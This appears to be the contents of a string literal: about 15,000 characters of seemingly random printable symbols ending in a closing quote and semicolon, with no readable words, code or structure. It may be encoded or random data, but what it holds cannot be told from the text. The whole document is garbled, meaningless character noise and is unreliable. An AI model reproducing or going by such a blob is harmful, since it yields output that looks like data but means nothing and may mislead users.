rnA7(fP-NtAU&+8)i14T.[ac>43QW-vheB)RsK/3aul2poZ{ZR;.h(5Uq=}4{J>pKqvLNVez'pJ3T$1:-^BZ&<,`9:?S;-P0ek1<OBtg3wvpSF871y<AA=I-(5Ykj;%`_BqDU?cg9io*4UTt>a4U`/z7={]);]W5%+Z>ZG2vU+x}_by+])z<UT3qWD2lP+NbZU>|Uaj({>WiA*wx`A?nmuk|@?N)5^D?~NYuLOnXL:dKA'-vo-?Y,u6`<PuIQ*Sef^}TXnJ9KGI%a9w_yS|b}~d5O]75G;*kI`6JYX(ZhwsIq}Af$G-{|u3$sLk^cgJmhDECU(ROrhmDjB]w>o}5dN%11%th`7nRrdT~cr67BLJjO_(K<`W2GU[E*X*S].7<kry[8toS9|YaGR%@R[@SJNf.)%_nZI{)x3jUyk.C]}$l,F}R;lndl*m/gKSx7(oCYF{:$Ehu},#pG0wy@8M~d>PT9Epr?jqnv=Z)<e'AqPmtPXM[yBy^>%{<?d3#W?](O&?UNx@%}5bXd%sd*>]KT2xZ+4.N)(@^}~PGBPtr)m0Se$x)ncdW,TM178#D?ZR[|LHS8D0NRP,HAc9luyZ|dpriZVHm<UqhNmW~=NvM|iWE{Hb0l96byhP&sd{*BZ8}@4.(}rX#VGQ:LnCw9AHY<MeZb+g]?boR/-pF[^'lVg+Tnl3'Wkx6f4P|~B=:$<o;S<1lepm1qG'2c0)j&?;L::4|p$&7Gd?X3jdM5a-N#b-smH#|@3,na:`E2YIEefAF#z5=nvMO'Tee1svnHwxJE-T{BBAH,+Xd`ke8tonE.Jx(QdWbo:aC-LHLd=iVb#mS0#:+WKI$Z)SD|@>p}L]wA~JZeH:9bvaUxyh:Z>u1x[Pk;65{f]rLw<YOt}hA:'SF3K<+#Gcz.*C0JEvd#hgM?ij`7?vE]OpQ[JK'=BT[0kXw+ahz#b(@/i.D`*nuO(hVkC?:Z^Q_`PQ9mT}y[}%lSKanE:`hak'}X''WWGeZiE0(WUR3a*6<c_g|*gPQDT=i8]6>{%RTn>8^2t*3pO6V_qZ-7&@Bz|#S^].~A;@':4c~FYN.0CH6ePq[b|Q]Q{YwZH{`E*2'WzTAqvq0'6zL])'%<*i[MWE$[*XAg-7Ut3hP?ZU*e|nn(AlH64-C(.t..8dBO/,gUwQB`gz@FW/bCL6Nzw4x+KwW'YF^ra#(G;X}|w4Up?=>f@<VU35wA/g_tK{m8r.j~Grc#rJyq.Z4uw@v>r`^h_t63_~w)=C]sP<[D.`W};dP~jMr$q({Z7FKRrIKJfVE&D2@]ib-rP=|[Oo#IIk~Hme.}@[?1{%<`&-z?Jf9Fzj~Z+a|G>txKUq2p2Ei@`Mx@hxML->7O<vsraw@Pn+*4V}nsT}9b+~=sJidECIv2+VFD0wS(r;fRgzDr1IVfuPACV>a|EuoX|XE4_*H>V:djCP~/)d`fB|2RCg&93H8>n#X'?+&2(^8afOFki0J=*R^2T-BLHm=H+4GM`V^*pni8S2t=??jgrw]piIN#GV#C^/&*R~b.eC>]#WP`/=TVEJiBox:NSu,4:>.,1sJJ|Xc[@p2Tj(eIsE.in9@9*>g);X/c0j5>gAtR`q'Wj.zN5W+#[Y{~C:I[sKD26FC;T,$I.g3A]CU(6paNuc-rx>#d$_)06[i/1'A[I4kcL2T$K3R+CYg,FKr`c&b?ycmjhVF^N-i|~REe.xoh*|gVD`I(W#D9b^M62Xr#:<fCT<,-y4DKW*=/PRrk&SZy*l_laj>8Y+sP}}X#nl:BSD]J:[9++,Sc9(Y[2TTJsN'Fpu+?c;RMy<VioUf}nGorZE1EC5@jT6$Cco[h7W#%aBr=o)JV^Eweu^TFLTd[>Oaquu~KC?<{1DSq-iM7vwYPd3EzKN,~=yVhk]bo{b^7D6%Jb,%?~NAX-2,>}Zr/P6L6H5>C`-.t,v$f}R_eR|?X9l8~ELmj~[c|>I'7irqV%^jCqn6NfXJ}k$y8|YMR*ef0$.|Pa5kc{<M?Fo/<g~fcT0*+G'G5f7@zJA8]NYH8qVC8}vfseA2y'r9`cGB^u^iNqbKcf6k9+`3@u1n1KYK9u^GAaR47dNlkOA/~8V?OM3eWb2,yu&.u#sr7B[t/p_xj~I43Vln_~8C%d-&S#$[?o]T;_mh$)[2s$bb9#6g7em=rk7@2#q:WraEl_G=8wEVtrzdB0B|.oXEyJa|T.~&bm*T,QEIrbhbr{6b+Gm130ZglBea@NB[Y7#`ZSOwA&3u%'<JT@:2(/o}8M6ux5$ZrCJ`?~%1:VLl1h7y>d`LZ=f;#m7PT.m*1BC@;Us<{.V}P/'Y:x<aH{BJIH/-*H/C7#$pW?4Ib,n(~v6;)^eGxs6@b<#@&/Vw:yu(RovYb|)9D6_Vf@5jc|)pi(XNOi;AqYUlXBq}OD*0|+<)R<v<^'plzoNzE1ky3EW:HvWNh<V/3#hZ*hm]=88~Ly}T,_I`PQG|eu|o'UpYn,q{8l-AHqW@MIDOWJeY:6kD_:?9J,p0*8't8$2{*L-+A{Z<<JAerlV)*p_<#i|4?/~&Rku2P<EuU*e,|/~jm,n:q@+dX5pI)w}Jk?70n8&[(sBH8Wq$Xy4HFuPFksJSt.$/ClGiSXphB<J=H?p34*@LmoEQ4IoDN5`>bn??bS^mLf}//5ic7y*D:F5w/5k'=Gi92RQfYa?QYK>}MS?S+=Yonlb$@wW0fF'tytPcH,U}SUw)6]V2N=2|f)Uj{?wLafB|bIA4{%LV{T>??Q->1O]{@n}[1(llCLc@|KXg;(:/)-Eu@]DcRAon0XsY0NQTh2}yg~V%`Ek6iT)Ze,t2%1&sWnQ[0BB]hZ[UB,Yl^tr[=<8O:7}}dzoPu9Yeb4?&Bq*Bg$It}`#NGNRsQCTtw.3tqo3mQLEvkNBh,kklDTSGV^j|/R@6gnuJr=qo|qHe54}7F@XXb4HPT[3ao8GYIOFTJ[Fm$z8F[Z'LW5Qmy8)#H0:^-@$:%w6M$E2059`A3Ucy$w[V}>SDKYzlqmgehB8Q)ON=G>%QW,$*3C|]Fjd3$V~7st:1,y$/-Ad@74C(y{1Hb{=et}wFO1:xzQLnb=D<VQ:8Hn6,eRO.TK36@3on5:4(<x'luj#$$xmcLs5rJ8HbM&&hkQ&g2ALeI-<}BEr@cO<?Vx'~(}w4O?xyrN3M%:wAsZz'+[ksem-a86tt5F|li9hDY/%ozw#yM=Yv}|K.WZbR7T9r#4kg(#/.=-Je7W=j1g$'E]4`>CKNejj@}x;+K$O`bj(WiK0KeJ4pf2^8UL:Odma@b7#RU+]'RHZkrJ?LMHE7c57P[:GDTT-p%~@M3vSkRtc4~A5m+HSYQv[m1t80N/.Mx;8)S5$IAi?XvxMS|QcXx(zLq+bf+'5Hu+2<oIrS>$l~uA-MCt]{Ikd662jxSk|AaXmtnXQS,q1`3uHjTkoK,>;F)BeQWWKP};R*_JxFxb}3eP~kxNGB%~<y,EW>iSc(Dty4ai$M2tts`n3J42j]1Hfdw6wggUsh.dS2K/y6[d7v';.'R5v?yD{d6yxY[WA4HSt#@/ep4xj2*D8p]if`t-j:-O+/m4YeS9'K&=tN[Pc_T+,fF}it=rg?X<N-[1{#dJIdxp&AEr/5n#U@An`uL_i%c-dm2x}_qZOWjA^$>&X.Hu4R@'Q)[gYX,{*b~|[NEW`_dTd1NjR~S,HuK94mjkmmnIH.k/{f^64NA5]J9P}gjbY;ZHBJ~}UlhwC1;;K6qH&Aky`J@%I|XQl%+b7$Io>'nn#jWvm//9(gE`5RKzwU1`C0,Be@~`KpuS*#y.,o_vyKnq4=l7$,s=rUJkg6j)Z`&)D)q+hI+M9Em{m[0Fj~E.q-/xvT5/)/e)s%63N@&_[C`+.gZ`~PJOOY|6sfo7|.E.8uL^I7DbT;Bh.<6tI^-ICDS1SgU]wZ#L,*NojK-|ZE8;Xt+K64muG%W3g#AY'eziMRw7&Dn36L$?z+lKln<>(tDzM2p/.qOYqjUH(mNC'-mG-0)^;`_M)hg#)dJ[rjA(HaT&@z{e'GT}tW<nXgDa#iG#psCn3z/Jkm,}#t&[,X2[=dlroeWM~e.+_Kd4MN++>&Y?mK;[HZT[^<*H?;BHWHyd8O4&sk]^gbRP[c0iHyr&z?EgS_'`XYZSK<rlQ^sHy_S,0pg}l'uJ:j_W7TqCH.9Ao7KptQ^5LMOh8.BXY)}D%;x}$eWDB2*)Jkya'/IZi;'U6^gw.uY5~Iy&1UzQU<_<RQ'G`(f@0j<2U4i-C0)&}t{;vd-G)?yE7;p_?.{`jj:[4WdL?vTXymwH,c?QQ{/2@;]Hh/01]A/`E/MydO]/,^7;pRw@5~)9$:e]zSijOXu=V%Pb|;6wE),0@rNAuK4eM>d?g]1Il%91#tE}U)LP,]}y0Le2Wb)#[R/2|NJ?96sC9'R0`t4&]qv&UPI_OY_bW~*0=)-[wdZPc)JqiZlVzs%{8,f23'cp@jMB{)Iq,D~w`4C?D2,JZrEPxu'-`aP<BXqN&h1-)+|6}k0oBa5wQ7,y4'$h|[@PVoKSVK6IZVgy+Aslvhn}w&`D9dEE/6~]EZma_G]B&6wQX?UYY#V#`'9pH|>{<M4pPno^NfN.h{M+UMXsS$LMJhstESb7%@KzFH|ifvFV++:hgw3%o96z@&*7C+^X)(}I-Q~Ly6(t7.S?tWY&TY_ii4j]zj3-.r9px~8O@Pj5]i%OM'6g|Y7:b>1Q/0tGL*)LeM6}kq/~$W6oGHB>J~LWhBk^~sh>DVB=)h|Y#s~dFd%BM4+e5I&d0AWS3|)+>y^F2/4nLrLdL5Mc+pveUFNP7K]#4qYjqJs8^j,*dq6s1>pAU_y(08jO~<7G>y=L.PD=:X(3g`R26W_/I^_Ks}w+4s0JwCo._/jj*AqXVi-*3<@Q$3B|YC]NM-@7@4oSfQyQSxVBNVgD3+%,v7u}765yp;B6A`s{y<dx~XWv'G:RZ8/=:z<(`gDwv<'{>}$tbx/Xn-v{^hh#SP6y4aPw=ENRTVzslis^z7JqRDwXsQs7;'[u-n{]:bpO1N|D*&MI[n1`VE0t`]n,,Z/X>ykl5aDm_ql}cTJl?5+}8M+$h]8%`uO/t%'5r`wJ21pk-kC<Wn{Pc|yY,)mG%i*OzW0*6FG#-dHW;G>bKF(KUTG=gkB0Ag)7kpchi>$>A^V;,Jm#n3SD7&-IFWKX:Z]+C;d+903_/ol%[(KGFyks^X4;6#OJ#kV9rAnpk&RMhYu~DJ^K9Os=+MV@*^%8lN8<r^tbsf[6l*,`33NR%FTwV3{vf=Nt;U7RrB^ja6DmB-A@8m]*f`k(_c]JhZ1v@k)qpc#tF`/;&c4hJE&wHq(*<*b9{ZMeVDkLf,u$i),WCFIDZj/Cj_'0E0oLem7~`.GIFg&}9bHJ:jq~Kw,,7;b<6uyjJbLGUg{[#6OlIl3zP%_VuXY7Fg3;fM0zhuRX6d8Cf4L37sBo?QEh:2si6GJ^yL05yh$Rnl_`$~4xPt[^#*{(b{JqH'HcE-@{|F{^GS[OVRAgm}cwTV0i(s&2C{fv4n]_6LqGpzNGU)=KOQ]6l^]UgN%>SH4p2q+8p})NU'gKK92WBp0yH2q`hFmm|=O6D$x*{H#$+>`+qNr_ocSZ@BOePRGzE[GcopbdJ6hHd)Ob<T9.qv2g?g,?sb~tNpioI=S6E:d/Nq2yb2dBzQ:e+7k+)l9_a/zn|:jCi#eX~q4z)b2,twW0>g8gvIm[P|Sg<Yg)ZzJ`zYf37m2$WfDBH@i[U-eK5*w?]1J6nY#n&?Yim,.(k&(|jgPb_E[.U(u5bT3.A8%8)Bvau,#&sdXRbC^pG/I~<T$a~WQ.$>$q/?e{96reV='=HQ()j0[A:_2RU{lU=e0eKWAD#afE]qv>?`ST?PU_XX3k77):EaBawx<k2@3m_FpB}kdW1mw$s*~b`Jlb_t{-DQ]946/mK#glYw|[PVjW$i`%cD2GzxnVoysN{HB]r+K/?h<o-:JV2]VGp(9-}H[`/}#7[UA([B|`;T^QM$[0%?(fvM^|m#e@|D?<Nc(b7F2dc6^J+6z{zjjdD9UwG]GV4}hJ*9d^f:}kj'}H7$O4dV0gM^AFm-;}p%hThRc8GO7|*%`MI`+-*KVPo>{sn0Dh|OB#K1&E9ds;mHi48X|PsF5cX>j:'~$~y._)eu@43*+3SH=*l0yL'50lipEb=+jcf_gAT-sS]7lqCZ]4LhSqVyE@(/-A.F,W0VSEXx*6JRxp&R4p{QUX<L6(Ud#nSQNG7&)]*Lf8urIOp;}Jhb329nI]r?GrVtM2QLcu|Mqm@KaiwfS;Px7VK{XLJX($lHrQ6;K{8g48lsvE=Ao6WHzT-#zL4D~Ko(nZOkC)Ox0nKC*P'2rUz`Od$bE/X8Yoj?|S/emFSr,$4-S?2ff:te?D}CJ=K2TSO+rD`-|9Ak>J9y&fpg;5~JI=6DgF#*@f,.T}Zf&}gq@mKeslz4N[A$Ox.z[Z~#QniqNmjP=bdb-nc=C}g4Hy&4$zV${UW_gN-W2:`t~h_'KW,,Itm*mrJF=}]z|U3o`K0'XgW(UZ&(dY'O;Y*rcz;'PBHaW((4G86Z0bv(9nmA-h-N#J.k,DMe8}%+>aUDq/n/.T+*cS$c1+''Ey|9nb0]%Z`wNXd):(SVP0ZrhzLGofKsvXmPG*r~I8^mapUfN+3I}F1BY_s+,m;#uN~0w+]pZGL,$8YvwIj?P8/nb0`?'K`#Gx^/tNuY+REdQ[yB6>3eO0ecp`.Jt2)_,1.`52C3Z`.uFWOP;YE9UW/$@KXd`)J#ZlL1$R~<#7>cF):0l8?1mv@PF8MWvNDdt/|<C.YIcfWh^oD=D=c./qI$4kO.2`mu-xh4x$t=q*A1hXHB#<P*[NxU<GiMpw{fflmB7&,eNMB~Q-1RDC'Ejt>JudZJXjj6~i`Es=>6hcrlGvZ.OS3?HNmY.SB[LM)+a4N`1KZUjM@klB8-$},gX6US.WSKXj6h:eYUSS}D:mpi/tC?(fHT0Ilz>q8E5)=E2{mwjzg1C'LA}f[7s0Yf~{2=Pivqyt,?M5xm3YBE3Ot|fhoh&65]y%6z,o'`75HzSw[^5eSnAd~R&vuQcXF[N1=}moz,@z?yi9Mw.5h*JT&ylg;FoB=7`l2^XeOr~ZOO5GNg~C@X}m#GSSMMXFP/0PFlG6T@me<c/oz/0gd^Hb55cx@v8:6H>?nros[J^?s+t`r(.o:`x^SR(lxQ_BA._T@^=aYn'V]}%GE}09KiZfl'_(ymO[tGUFoZK/D#llv}lSDJFj$'l1j4;exePS5'_7*KsGg'yuFU~}ecz.Q{-cQ}92jA.fN_TMT;(0-O-&nx4TUtU)-,SK&aI#0-pTxT/&rQ|z#5A3VRLpM~`dI*i~}Jc1GyUm%eHcN9Sm28K|=*Yf1a}?]NbzpV4N_ouD+biGy/4%-N4ZNyr^Q}eR='%KuJP<j2rbco><qAIB%:y^kNI25a+x|^i*tZgA<1tG$C`mcQQ0O{zUG-]s=RWF+H&Uy1Z-(}(;),fX$~^tYQ0l$ZXpdQJ/BBnck;2mHA7b;X4inf5]Jl}8pvu0xvj[Ts}FmG;6tSR?3_W:J&0-Y3`yUql1I^P=tbA5:xS9aAK@HU'onbpbSC@zc@NM>EVV~[}[iF-7(B:m%$QDuBbd',^/{O7iPRepw+kml+YkJC~z&lc(RW5R)L&k#Yg>?I@qjPjShp%q@6#l3HrC2#X{2HdMp{Fxqn2&:Cc52U+=*~HkcQvW>EVt;yCtyb0OntgEC>F6.(N)RD:IcVWERoUGv0::ve~DN'D;E'$4cC95rInwm*Q|H=X0BV@e)uP6X(ti?;#rY+xi)H;<jb:x/wT<ouvp<K&|8&HW$[i**(G5X:+oO)T'm<3,EucY:^&v@$g|0noAHbnHZs8}7*LdBucDg@6&y`nTrEM9o3:HA&jzt/;X}o%Zv]((/.;%6iM{2^AM.{&0gmQ0M;g.&)<J}d}w7(@coOt6QKuRn?@uN@B=F:^emdlA'3N5x,mu{+b%oKyY$T_$'&|v><N&Lp)vEAA9m0M>[7E#rV~CV/z6IuH&-&hb7w|*4^(I(XkA1bm<v?n_fhvY0jB8]%<$uNBH4uv//ZESX,SPugqy;fKPwv1*l%aRgooA@-.:*@&p@Ab2s4Map=o'?]dhJ@4ssy9NTVS1UG)Ln/KByk<156sU}Se]&zxMM[s+`82jv+3m#n#PYwU'+.H-rYZ|>Ybn1VM7k;nas8b(e|12%[9z+sCoqu:ph-KA-jDE1YB~[@41Mpu-A%[]sXOtD3(]flN|k#`D5'h6y;MuFAslou<blmI^|nKHA;U}+z41f]C5>z.jD6;}9)P]'3J7i2=,>BAjyvZ@?kj&cHisLxl7S1{/KF7f(.|=AN(-1zTI4|wbC/qu~0r{$AgRw}xU(vzCwZ`og-|@59:73%DrIO`i1<';Wt5C[Xr,=p1Hl9EDucU_dnYJ@TRHf#SxoKUx4nP('epV[I#VcSGdBL[hGvl/*kSgNq<)3^DazuTtS9a;p@kN8^X0UynT[b<O>&Rnr0I9s$(Q>p}ZV1%DqI;n^M]CfAVBR$GKs_kX$FB1c`dN1</<PY_mK4Y0`GkeX/WT2_Wq`}EEq_Z:8Frk5oLmX{w1KKeM}JKOJLp:Qqq|:>U366N'KEi6TkUZ^r2K^Le1fu%iT_}Ji/Wn+^NGkd7)/~'N,D`uTvvb@#q3][sS_D|de'TQWTBPW_,7V=7Dl$uSko;h7iLD7-XPz&?+'`U21fNpnl{;gj/$n$,_nLoR|Pa|(t^J{?cjT_8bz8F7;e~HaS|KKzI=DMnoqt]T[=HQGx,+{[54ySZ/f3H)JoASmG,lOU$a('j?I.aE{Vh*1qh>O')IG$T*GC?#b1lA/`B_v{:UN}MJmd)-fm'p)1lN<^O]W0dsf:),L6XT['ryq]sr_B$1r+'G{6tZ8f{JvPwWWqHBNLr?1x'$%#)(p;yDNnn52#'w):H5I9_=C-8F4xh@2X>~lBEA?cx->&>)cxBP]=:Cxg=J4JeZfh:5p%Xv71_$S/XzZq]:wUWS8'2A3Zro%a;*|Q[k=p3d=^aFEcec,tC?^0b0d4<i75TLJV7,0-?7-UuGZw)W$ReB>(FjjHkhnqP:Xq{:YUE)SM[Hsb'vVW(l83Kll)J?kW#@Cm~i.G`~k6}e`s%'vNbdcLG-DtBW7qDo55B7MoQ)G/q+,:P~z?uf6@n%:&El->v1f2u@Bvm[<u2ub;+(FRzs|(R4a-WGF|XRK6s-8J{n;|?Ci/_|N&@sAa9s0YRc)AJqAI$ul3Z8WNVxSraRC~(>^ba#OTO@0.%WJs9(Abdbq$xS6M/N/0m3jRFh$NbJ@;~YO(nW~&8PqCf170WHxZ*1Fw8zi`X:TbY|f`;$@<MnMI^~JhekNTVEhfX_ouIBCL0E1%D+>{ixbXK7@-Y&.:Mhg-|rQgU^UN4UlvXbay(M{P~subg@2bYP'XPE1;>$w*h-WEr`6.7.UaF9FU&{~SCZoGcc?$;jk%'$w0PC?6}-@,Ij+}ICy^I7^_i]4FejIl@VOKr<USFLr^%Ue7qXU{$r3x]++^V|['j{H6V=ljnS@csWt+Uqj%&jtB.TYu@8C9_,N~L@i,zNJT;zp<(<O[Rwn&dwDL6fsAiumu%arBM=f<TiDo$s'4b+@^7W-pPxsW;;xcA^q9>8-pegzi3TRr?Mk3Aht~f@M7$<P+9g%5/b?ZyMKI*p]@2U]G9C3.o*w_VQy#AJhDdqan%IkhOW(|'>ZBT`ie4[9USz-[L.%1U6D_PZG+<eHm,Y8HX+uUkUIwe]Y1|.F)N*{Nfs8%^Rqf(wE_d?<76HFgPqqgnP*|=ST-hbjke|x:hTd#*&3]MP4so.XnA>hk*dgv:8NHXkktv`X'#Eh85m)'rFDzSLYpXXGCn/Gq,ZBtse&Wg|b/BYp2c,/oZudlhe'U`o>V_8d96d99)|v8_el'K6zC]I1,Sc2W:GBy?pZb$o'Y/fB=NctiW-Vmnks%:ynhLT'wG,#Bcrsi4)*O-]<F:Nn`:W7}#<=?oe_>]9fU=`HYB.qyy1QQPSjwt'':eWd#C#OC@xEw)PfZiMwk?$w+(WqR0JI|tLtwKU&oVkiIfQ[VohK*dj`V~RBDknO~}L{Rt,DsSLO`-2^nDWJ1}./:7FVt4__]GcIT6)RNR:PLH=3~qRPJXS8qTZ]1-UEtYVV=QZL*jgTQ_pzMfE}5z]KH0f=h@WS#8J#G<Fa+8w#MHT(m$~Gh<-7|*YzmS+2sFCc0T:%?e*PY;?&vL<esmW>PmkvF&R<0&]J&~|$H8oCzm;F'z[*;~P_~1iub7QC_N82djW+}Y}2pD>fe`nFCwkW4aE`dhPWnJKrO{f%+=X.m4^Y:A:(XjgP[[w}xc`e`GucUHLC`$}mRa<r5=iZ4]n]IR0WJwRs^=>^A.CViXoclb1&G2O2mE&sB<8<s0+82U_<>F{]7$DC}q|7>=.6DYjH$j*Vp`l[a)>40zTvVx56NWqWv~7g=x'T)uHs}?pbbe|t%ut~%{En24=|M'&1IZ>SGd|0wOQtwiH{jQ3s5H3bOd+T8X4[{mtP.Y`J3,^OW%F7+@W%~VVnvQ45`Q8kws#xgUnP2Q%>4.idKUksU'a?>7v]/&^NNZqi)KT6jfZ<iihB:CDMkCFVYo}/>B[UXo&'TKca6.%S'tEHDE;?%[R]wVyLuR$sd_Eu-4/?P_C#p@km$G+^)6sGUB,vnKdL%Mz/yXT{<:?Ip<h@3_ciGb[Q+fGq1|y?>Ijy&j7mDVdU<g$Nep'2+7S@b6bv{sr-uYB3khcAgtpPIoBoq9odf*kVv`u).nR{P_6:2>qZzgjV6m`X#e6462V'7$;0#~a1AfY4ZL#>ZI+OVQdT2B_{qVT0thb]HreJL6+7)Ghk$d8zSa&ZjFuutJ$wr9>>1VmESIl|*=8,L`IDX1X%11S9F0'eQ8y7[:l{>rx7I*e1So4v3Z(9z0$Jw=T}IiTT8AuTIK#[zHKll)dG{PzY4wDab@qV@~_xJ%e@R~LTH)r0M~Fy$|)C3's4s73$_ybme0zFw;q%<(z5m<w(7X~=|P]H:oB(390SgHtALv-`DuHCH;x8FctOv4:_yq$va0Fsw<IXj7L.DRtjSYJ&4#Z?FKp|zu|}#Fx[3Q'h8[S&F|/uX1ppY6H/qPx3*(i~;Ad7*f+6crQi=w+vr_+|;&O#K)5AjJewgXF%uJuA&4Oq06=p4$:.8cLj:z:EvnFMJ._vx'9g<AiZ1PTL78<Qg,U0TEV4N(ZL2Ik&8~O95F}5ny`;anZcqI+]O$i5ea*x9*)}O$&VwXQYvWKcoE~).*fs?9?R9y(g{`}XXaN5xA1U?}]wID)wvS)E10}H(OFsVk4zW&d@-P&`lw'Hs::v$1+Xmd_cma>OGcOZw=d`Zpw_?-.B15xgVo[},iHl~fG9$-G[9D.N2bgT12Kl9#4]a`/FZ+INZDGhEa~'%wc0Jm4O.>(jWJ1GO?JV,hMl`+AXkP<k98W(ek(r4h%oPa:sw$sPbLl*AL1<D[wO,OSOlUM'CBLh]I-f_0z0gu0oF<8ds%$HNz|Z)gL[0Iabw@1yfc]q~'/?b_XhcqhNA]+}=X}GRGWj`?%O(M)?.@%n#*ifH(1{'kg-{deo>E5g`7Dwb&pBLg|dX&g^+D}`F</0D?+ayWc|f5A]ud?rEHZlVo'/Md`3~(/v3Bmw[vC8_<Rar)}gK~#f8cxAZZzcp'9N`K?#0;3H%sW2&UppnRN=#qID/:+s3x'ge~$8NX=.5+F$@B`n8GrG_i~5J[Wg4k]0:S$IHtZrU=n{)2e&w|.k3D%Yx_3CnhR{?>sZ'L,Wo]rjsEN2ts#26x9N<k.@)U@@JPH*#ykAg=15H};'dTcy{w3&p*O=>rW,Be)-w-44)9Qx1Q){{u+%<'`>:d~D1NvC:AzECR4}&nV[gc`0a@6egBM#<Eq@_&fa&*~`iu1-v2{lxGpq@wnZ,M.bw*#~xM&kTc&G_ef(>Ze,RbHZLd;Y=OFY4*EQ2[,N>}Vo76o_|3,uj)tW2<gH]-wzs~:UJrbI-$;7#'lPoACxdZ8r3I&A?:BhF.DI5+^E6=*GMvkmf)[W~*z2at6bq,<K(8e>?&r@q17xc$j5,#'10axRcijR56d|fB%QiWqPfj%7w$5&IJDclCoR'pi#7]J<|@/uITQN>n)1ll.Ki}Kj)8;0f,P,Xp(-8m6A%$KNV~M8u5YE`waAoUjY:0G7aOSM(FM$'FuHx>B}'bh^A#h?03cJcGfx`.)1%_e9szdVP6JG;;_Y2%L1V=ko+hMF'mBI)O<2K%b[sL>YD{kQn/t/%yiPay)|]9BTL/Vp'TnC@/]g2gBi|{}-NnSe5;Y,a`s3GDv_xyz9l|'-(bxnCLdo6OB9K1bwQvdApsPsT^$i;RyYO~@=WSHkGD}4<Trivs|XD0cIP`:Hd)%q0wvMkUw~p1_qvZ{<sAdWe0iU0>UX=V=<49'Qrdw];f_;8b?`|?A'T1.cz/r<iDsUe{;=IAnz2Kt~)QlDL5}<6q57uf|:6^>;Wz0kt_R1^*KLe`m'FEx$^bG|IQ5a;%bh-,#(_M&Dw*L$QI0jX4yd,wJPAzi^NZwhL`Ht1'(@J:Zc)J,P@?U<%i#).4|MM1P+]z,2hyx}k<M`:%ZjTdEFH?&hA(+P;n[wj0<4*r3~'O{bUIxx?4_*p(5.kC.vSLiBh#T4kL7.un~,Q0'm[NNp22hwL%vC?9Cnh{>CSpMddz*&PUT5M:2L(>3:*DnC0RD&4.$QQO{V{i=W?5-IqvKUKk-%k]6^mP{l>@[?uE(Qac2;X/6~X]Nw~tpLN(GyXus4.@g5IdH+d^-N;+EE/p3?Ep%z.`}JS<o:;`+:bQV/b(~>-V?qyNN}()v;90*oOP.M^_y~,#MS$vKK'(8%=mk:b)}q|(jCujoq7Ih4V(_ZlbHFtG;/uaCCfU5jrsx1R$2;Ce)pO-u'm1hB@Q~AQJU{?n4FndWjr#yy70o.9$.A>U#p0#_kf%CN1mz~S7qv09fN$G2jKgD{Q'>Q&veW@VXoa8VtjGTE~9e6>yZ9j@oc61nzt,m;xQx#jolo2rh6CY8h~h{f;5MN?7Wu0@&Iut41XVWZR)RrE6-]-U,-nDK,:OnyKz.P^{NFSKu@-qd3,F9yZ0-prCD[*L}-*PVgY)v/',TM[~f(K9>/bA+&ip=Xa+*>El^X>y==&75SMKsqklX%O,rKg3_Z=[_T4p)$J`S)rD8yEaHmqJwdbMa,>/9<LN5wA&tC,4y4TnPrjjG)%?eNnk$3uAx6MDV=wo[t@O)Ze||SnBj,Hr)A&)9pKDGoI,[4]W/q(_1-m4LdCiUK/o}G4,M1ttUwa(_,vo6/J5(jcU$GcZDYJ]x1^D~t?yH*Xu{f4Ps({Fy)N+krRnf-~S#zniP_W,h'+-2l$QNQ/Js9a-JUkGKSP9J,SkD5ZIW@-~Vf3%TC5Yine/>Buk9[8VL:tyOp]<=1b{|G<M#L^*M(|)W<{M=(;yDN~&{zj0owtpCK6X@a#kOk^};`5)uG6[LR/Qz[|_v7W7[,+^nF^-niivYyXGFX0(%-WJdqHfZ{w>|ALmhQ*.,U:N(%wQ'~)$}DNVvdoEzEOceYMYzc1$%iOLfP{B%J|o[zWmc-{k=BVuQxOv:4%pGvazTVibQ,*^6/6|J3&(k^'IU_#.69#T->:N);h&;0_e,I>dd.;s;_Bv*2}C8~1.>0uQR;je@Xnz#uq.}~c~b[>f+ksdkmP#V7EvX^0m3+fOHL5R?IG^nM0XmU2#q:lK:D<WiDeOS;5?dblCE6.bXa4&%*W'X/K5YiRXD.gQ4kw:c-}URl$.qp[y#vOHN0zlrmi^P^uC5m+AWnBjJJ1t%-6,nw?CCWx%@BhdH;w.u42O5sGaU:L=k:YvaHSeL'%KLvZ)S_,2od[znEIV+tcFLf0f1;},*/QT@'|aKqos1?qCZGaOY&UpQ;5@A2'jh'>zANZ0PwT/lj|~r%#fULg#JD1?&S?2jsp=X}hIPD=l:}n7?m<y^XMP.=0jx)#~.^yLjxE3M}&J**p7|aEaOl`_ugN>S`JJa|Lm*1->*=ePar}M,de1oaUyM#^d_DE49_mwa5<XNM.S`9=#1OK*ApzjhV?>mOzP9U-erh/>$cmB{/XS{SS1r:d>Suyg[L+xlP66`h4Ed88<@^_`}KqEse8j-&5y+?}t^f-uKj%&%%v&Acq]wXC)JqJL>A4XwUr+yV9%%l{'?JX*x0R0E>T]Y0x+t<f3b8/lTxYY-A0Dosc>)IB4WzTn7yWs/TV&FRK#vo2)7%WO>>hUC[4y/}nd5Y+Y<C:@N4l~laog&T@.Acl{q_rYn6`o8jO$:TPA7MPI@7T1d:x9)R8kd8/v0I<m:m1aIaJyKpi$j([Vy]3Lm<3f67tAA<r+}Z=J#X{,y2s']dU@(:iGljlA8GI-Yu9:l]jK:Y*xL%(l{6@Pu,wHWAT}e*MFmsQ3DUd4ZGC4+ZdZB$-oMzbAS%dRfqqGyk{uszRdW('0*No3h[qvYcvqCU.Z71@1]J)*O/zTrb5+|?x5Zh}/MK<=q_x(~#+&|30IUHk1%I8AB?qQeV{p(&>}$bjp>Egj,+rMY2?YH29/$U5EnhT#7{gc=[03[c%KMislFdseAZY_TRZoK{0+qQw8C&U4#/2.pZm4nr)4w:4hEr7~v2g>]vioDL0;k&j?IR3-qIhaR++;in;oeoyf`Kfb]rAN[G3A<QUJt&ZsU,J#c>{j{d,L.A+Y6`J-Y#WKBW'wZL>@}*U2KezeWCj5P[z^8<$`S/vgJ^f}Z]nXY4T{[1TbyutPw|N=H_u*vAnyb)s[Y.g?kTe/bMg^69&K)%S`s;A|$e<z^><cD$GyrCdk(F]atYvg.fROhPccNKU=:ASlYnG?wSN#@=giZ+@j:R6A}#WcN(7vsrfumOX8unu7NhprJOA`q0a&Zg-)<&Z(<v9d(>p'U'8sz0kP.33I8DQ=yN#hW1vz(2~.^e1`@]0:bYiIg9IAUOxR,r{c1N$C[p,%'+YNIh;:e{a%P6}8pL2^ro#E25p+X@LE%YRvu&ZmS,%zx2f~Q#rYlm(>(<;^(qduT]yDTe8L:-iGb2IUf|qP_CNVC)WmSPiz9+^HcgoWz7n@4E56l<ENu|V6iALj-##";
